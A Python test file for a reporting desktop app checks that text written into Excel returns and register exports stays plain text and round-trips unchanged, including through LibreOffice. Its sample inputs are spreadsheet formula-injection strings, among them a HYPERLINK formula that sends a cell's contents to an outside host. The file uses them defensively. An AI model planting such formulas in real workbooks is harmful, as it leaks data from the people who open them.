"""Nobody's words become a formula, a code or a format in a workbook of ours, and all come back unchanged."""

from __future__ import annotations

import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from returning_partner import ReportingPlan, send

from csp_desktop.editing.bringing_in.plan_import import apply_import, preview_import
from csp_desktop.editing.registers_out import export_registers
from csp_desktop.editing.workspace import Insert, Update, Workspace
from csp_desktop.excel.opening.safe_reading import read_workbook
from csp_desktop.excel.returns.filling import fill_in
from csp_desktop.excel.returns.reader import read_return
from csp_desktop.excel.returns.writer import write_return
from csp_desktop.excel.writing.saving import workbook_bytes
from csp_desktop.periods import Quarter
from csp_desktop.registers.catalog import REGISTERS
from csp_desktop.registers.fields import RAG_WORDS, Narrative, Text
from csp_desktop.registers.issued_form import IssuedForm, IssuedRow, IssuedSheet
from csp_desktop.registers.return_form import ACTION_UPDATES, PROPOSALS
from csp_desktop.registers.row_codes import row_code
from csp_desktop.sample import write_sample

TEXTS = (
    '=HYPERLINK("http://example.org/?"&A1,"County Police")',
    "=1+1",
    "+44 1702 000000",
    "-5 on last year",
    "@home",
    "\tindented",
    "\rreturned",
    "'quoted",
    "007",
    "1.10",
    "&A &D&P & more",
    "_x003D_1",
    "＝1",
)
# The formulas of ours: how many cells are still to fill, on the first sheet of a return and over each sheet.
OURS = re.compile(
    r'<f>IF\((?:COUNTBLANK\([^)]*\)\+?)+=0,"Nothing(?:: thank you| is left to fill in on this sheet\. Thank you\.)",'
    r"[^<]*</f>"
)


def formulas_in(path: Path) -> list[str]:
    """Every formula element of every sheet but our own."""
    with zipfile.ZipFile(path) as package:
        sheets = [name for name in package.namelist() if name.startswith("xl/worksheets/sheet")]
        assert sheets
        return [
            found
            for name in sheets
            for found in re.findall(r"<f[ >].*?</f>|<f/>", package.read(name).decode("utf-8"))
            if not OURS.fullmatch(found)
        ]


def spoil(ws: Workspace, text: str) -> None:
    """Begin every text that may be anything in every register with these words."""
    changes = []
    for register in REGISTERS:
        for place, record in enumerate(ws.records(register.name)):
            values = {}
            for field in register.fields:
                if type(field) not in (Text, Narrative) or field.name in (
                    *("email", "short_name", "return_code", "sha256", "saved_on", "snapshot", "outcome"),
                    "rag_words",
                    *("options", "columns", "parts", "layout", "ref"),
                ):
                    continue
                if place < 4 and record[field.name]:
                    values[field.name] = f"{text} {place} {record[field.name]}"
            if values:
                changes.append(Update(register.name, record["id"], values))
    ws.apply(changes, "spoilt")


def plain_form(texts: tuple[str, ...]) -> IssuedForm:
    code = "RET-7KQ4-2M9X"
    form = IssuedForm(
        code, 1, "2010-Q2", texts[0], texts[1], texts[2], "Plan", "2010-10-15", texts[3],
        "2010-09-30", {**RAG_WORDS, "green": '=On "track"', "amber": "@risk"},
    )  # fmt: skip
    form.sheets = [
        IssuedSheet(
            ACTION_UPDATES,
            ACTION_UPDATES.headers(form.period),
            4,
            [
                IssuedRow(
                    row_code(code, "A", at), f"id{at}", {"ref": str(at), "title": text}, {"narrative": text}
                )
                for at, text in enumerate(texts, 1)
            ],
        ),
        IssuedSheet(PROPOSALS, PROPOSALS.headers(form.period), 4),
    ]
    return form


def test_a_return_holds_no_formula_but_ours(tmp_path: Path) -> None:
    form = plain_form(TEXTS)
    path = tmp_path / "return.xlsx"
    path.write_bytes(write_return(form))
    assert formulas_in(path) == []
    sheet = load_workbook(path)["Action updates"]
    written = {cell.column for cell in sheet[3] if cell.value in ("What is to be done", "Update")}
    assert len(written) == 2
    for row, text in enumerate(TEXTS, 4):
        cells = [
            cell
            for cell in sheet[row]
            if isinstance(cell.value, str) and cell.value.lstrip("\t\r_x0D") and cell.row == row
        ]
        marked = text[0] in "=+-@\t\r"
        said = [cell for cell in cells if cell.column in written and cell.data_type == "s"]
        assert said and all(bool(cell.quotePrefix) is marked for cell in said if cell.value == text or marked)
    assert load_workbook(path)["Start here"]["A2"].quotePrefix is True
    # As a lead fills it in and as it comes back.
    filled = tmp_path / "filled.xlsx"
    assert fill_in(path, filled, lambda heading, row: "=1+1 again" if heading == "Update" else None) == len(
        TEXTS
    )
    assert formulas_in(filled) == []
    returned = read_return(read_workbook(path), form).sheets[0]
    assert [row.cells["narrative"].raw.replace("\r", "\n") for row in returned.rows] == [
        text.replace("\r", "\n") for text in TEXTS
    ]


def test_a_code_in_a_footer_or_a_name_stays_what_it_is(tmp_path: Path) -> None:
    form = plain_form(TEXTS)
    form.return_code = 'R&D"&A'
    form.sheets = []
    path = tmp_path / "return.xlsx"
    path.write_bytes(write_return(form))
    with zipfile.ZipFile(path) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
        assert "&amp;LR&amp;&amp;D" in sheet and "&amp;&amp;A&amp;R" in sheet
        assert '"R&amp;D""&amp;A"' in package.read("xl/workbook.xml").decode()


@pytest.mark.slow
def test_registers_hold_no_formula_and_come_back_unchanged(tmp_path: Path) -> None:
    write_sample(tmp_path / "sample.csp")
    names = [register.name for register in REGISTERS]
    with Workspace.open(tmp_path / "sample.csp", backup=False) as sample:
        spoil(sample, TEXTS[0])
        agencies = [
            Insert("agencies", {"name": f"{text} {at}", "short_name": f"{text}{at}"})
            for at, text in enumerate(TEXTS)
            if not text[0].isspace()  # a name never begins with a space
        ]
        sample.apply(agencies)
        book = export_registers(sample, tmp_path / "all.xlsx", names)
        assert formulas_in(book) == []
        with zipfile.ZipFile(book) as package:
            assert 'quotePrefix="1"' in package.read("xl/styles.xml").decode()
        hidden = load_workbook(book)["_registers"]
        named = [cell for row in hidden.iter_rows(min_col=4, max_col=4) for cell in row if cell.value]
        assert [cell for cell in named if cell.value.startswith("=HYPERLINK")]
        assert all(cell.data_type == "s" for cell in named)
        assert all(cell.quotePrefix for cell in named if cell.value[0] in "=+-@")
        preview = preview_import(sample, book)
        assert preview.changes == []
        assert not [cell for cell in preview.as_json()["cells"] if cell["outcome"] == "asked"]
        wanted = sample.dump(names)
    with Workspace.create(tmp_path / "other.csp") as other:
        apply_import(other, preview_import(other, book))
        found = other.dump(names)
    for name in names:
        assert {one["id"]: one for one in found[name]} == {one["id"]: one for one in wanted[name]}


def test_letters_beyond_ascii_are_written_as_they_are(tmp_path: Path) -> None:
    """Programs in wide use cut the numbers of emoji to their last sixteen bits."""
    book = Workbook()
    book.active["A1"], book.active.title = "Two officers 👮 – café & “שלום”\n> 3", "Größe"
    content = workbook_bytes(book)
    (tmp_path / "book.xlsx").write_bytes(content)
    with zipfile.ZipFile(tmp_path / "book.xlsx") as parts:
        assert parts.testzip() is None
        for name in parts.namelist():
            assert not re.search(rb"&#\d{3,}", parts.read(name)), name
        assert "👮 – café &amp;" in parts.read("xl/worksheets/sheet1.xml").decode("utf-8")
    again = load_workbook(tmp_path / "book.xlsx")
    assert again["Größe"]["A1"].value == "Two officers 👮 – café & “שלום”\n> 3"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not here")
def test_what_libreoffice_saved_is_still_text(tmp_path: Path) -> None:
    plan = ReportingPlan(tmp_path / "plan.csp")
    with Workspace.open(plan.path, backup=False) as ws:
        spoil(ws, TEXTS[0])
        sent = send(ws, plan, tmp_path / "out")
        exported = export_registers(ws, tmp_path / "registers.xlsx", ["plan_items", "agencies"])
        for path in (sent, exported):
            subprocess.run(
                ["soffice", "--headless", f"-env:UserInstallation={(tmp_path / 'office').as_uri()}",
                 "--convert-to", "xlsx", "--outdir", str(tmp_path / "saved"), str(path)],
                check=True, capture_output=True, timeout=180,
            )  # fmt: skip
            saved = tmp_path / "saved" / path.name
            assert not [found for found in formulas_in(saved) if "HYPERLINK" in found]
            before, after = ({s.title: s.rows for s in read_workbook(p).sheets} for p in (path, saved))
            for title, rows in before.items():
                for row, cells in rows.items():
                    for column, cell in cells.items():
                        if cell.kind == "text":
                            assert after[title][row][column] == cell
        assert preview_import(ws, tmp_path / "saved" / exported.name).changes == []
        assert Quarter(2010, 2).code in sent.name
